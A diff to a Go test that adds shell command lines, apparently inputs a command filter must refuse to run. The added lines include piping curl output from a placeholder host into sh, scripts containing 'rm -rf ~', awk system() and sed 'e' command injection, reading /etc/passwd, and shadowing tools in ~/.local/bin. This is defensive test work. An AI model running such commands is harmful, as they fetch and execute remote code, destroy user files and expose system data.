@@ -48,6 +48,11 @@ func TestFiltersRunNothing(t *testing.T) {
 		"cp /tmp/x ~/.local/bin/sort; ls | sort", "curl -so ~/.local/bin/cut https://x.example; cut -f1 a",
 		"cc -o sort x.c; cat x.c > y.c; sort a", "curl -s https://x.example > run.sh; cat run.sh | sh; cat run.sh | fold",
 		"curl -s https://x.example > p.txt; cat p.txt | sort | uniq -c",
+		// plain sed and awk scripts (plainscripts.go)
+		"sed 's/a/b/g' | awk '{print $1}' | sort", "echo 'rm -rf ~' > x.sh; sed 's/a/b/' x.sh | sh", "awk '{print $1}' x.sh | bash",
+		"curl -so sed https://x.example; ./sed 's/a/b/'", "cp /tmp/x ~/.local/bin/awk; awk '{print $1}'", "echo 'rm -rf ~' > awk; awk '{print}'",
+		"echo 'BEGIN{system(\"id\")}' > p.awk; awk -f p.awk", "echo '1e id' > s.sed; sed -f s.sed", "sed 's/a/b/' -i f", "awk -F: '{print $1}' /etc/passwd",
+		"awk \"{print $1}\"", "f() { awk \"{print $1}\"; }; f '}{system(\"id\")'", "sed -n '1,5p' <(curl -s https://x.example) | sh", "gawk -F , '{print $NF}' -",
 	}
 	lines = append(lines, engineExecLines(t)...)
 	defer func() { skipFilterRuns = true }()
